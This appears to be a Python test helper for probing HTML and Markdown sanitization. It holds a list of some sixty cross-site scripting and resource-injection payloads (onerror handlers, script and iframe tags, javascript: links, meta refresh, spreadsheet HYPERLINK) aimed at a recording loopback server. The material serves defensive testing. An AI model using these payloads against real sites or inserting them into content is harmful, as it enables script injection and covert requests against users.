"""Texts that would make a careless page ask a stranger for something, run a script or put up a dialog, and the stranger."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# %s is an address of the stranger's.
FORMS = (
    "<img src=%s>",
    "<IMG SRC='%s'>",
    "<img/src=%s>",
    "<img srcset='%s 1x'>",
    "<picture><source srcset=%s><img></picture>",
    "<img src=x onerror=fetch('%s')>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
    "'\"><img src=%s>",
    "</textarea><img src=%s>",
    "</title><img src=%s>",
    "--><img src=%s>",
    "<svg onload=fetch('%s')>",
    "<svg><image href=%s></svg>",
    "<svg><use href='%s#x'></use></svg>",
    "<svg><script>fetch('%s')</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=%s></mtext></math>",
    "<script src=%s></script>",
    "<script>fetch('%s')</script>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<iframe src=%s></iframe>",
    "<iframe srcdoc='<img src=%s>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=%s></object>",
    "<embed src=%s>",
    "<link rel=stylesheet href=%s>",
    "<link rel=preload as=image href=%s>",
    "<style>@import '%s';</style>",
    "<style>body{background:url(%s)}</style>",
    "<p style='background:url(%s)'>x</p>",
    "<li style='list-style:url(%s)'>x</li>",
    "<table background=%s><td>x</table>",
    "<video src=%s autoplay muted></video>",
    "<video poster=%s></video>",
    "<audio src=%s autoplay></audio>",
    "<input type=image src=%s>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=%s'>",
    "<form action=%s><button>x</button></form><script>document.forms[0].submit()</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=%s ping=%s>x</a>",
    "![x](%s)",
    "![x](%s \"x\")",
    "[x](%s)",
    "[x](javascript:alert(1))",
    "<%s>",
    "%s",
    "&lt;img src=%s&gt;",
    "&#60;img src=%s&#62;",
    "\\u003cimg src=%s\\u003e",
    "$$\\href{%s}{x}$$",
    "$$\\includegraphics{%s}$$",
    "```mermaid graph TD; A-->B; click A href \"%s\" ```",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "=HYPERLINK(\"%s\",\"x\")",
)  # fmt: skip
ALL = range(len(FORMS))
_MARK = re.compile(r"P(\d\d)Z")
# Where an address in an element makes a browser ask for it, or leads away.
ACTIVE = (
    "src", "srcset", "srcdoc", "href", "xlink:href", "action", "formaction", "data", "poster", "background", "style", "ping", "content",
)  # fmt: skip


@dataclass
class Stranger:
    """Somebody else's server on loopback, and what it was asked."""

    origin: str
    asked: list[str]

    def payload(self, n: int) -> str:
        """With a mark before it, by which it is found on a page."""
        return f"P{n:02}Z{FORMS[n].replace('%s', f'{self.origin}/{n}')}"

    @property
    def payloads(self) -> list[str]:
        return [self.payload(n) for n in ALL]


@contextmanager
def listening() -> Iterator[Stranger]:
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            bare = self.path.startswith("/bare/")  # the payload itself, on a page without walls
            if not bare:
                asked.append(self.path)
            self.send_response(200 if bare else 204)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            if bare:
                self.wfile.write(stranger.payload(int(self.path[6:])).encode())

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    stranger = Stranger(f"http://127.0.0.1:{server.server_port}", asked)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield stranger
    finally:
        server.shutdown()
        server.server_close()


def marks(text: str) -> set[int]:
    """The payloads that a text carries."""
    return {int(n) for n in _MARK.findall(text)}


def fitting(payloads: Sequence[str], most: int) -> list[str]:
    return [payload for payload in payloads if len(payload) <= most]
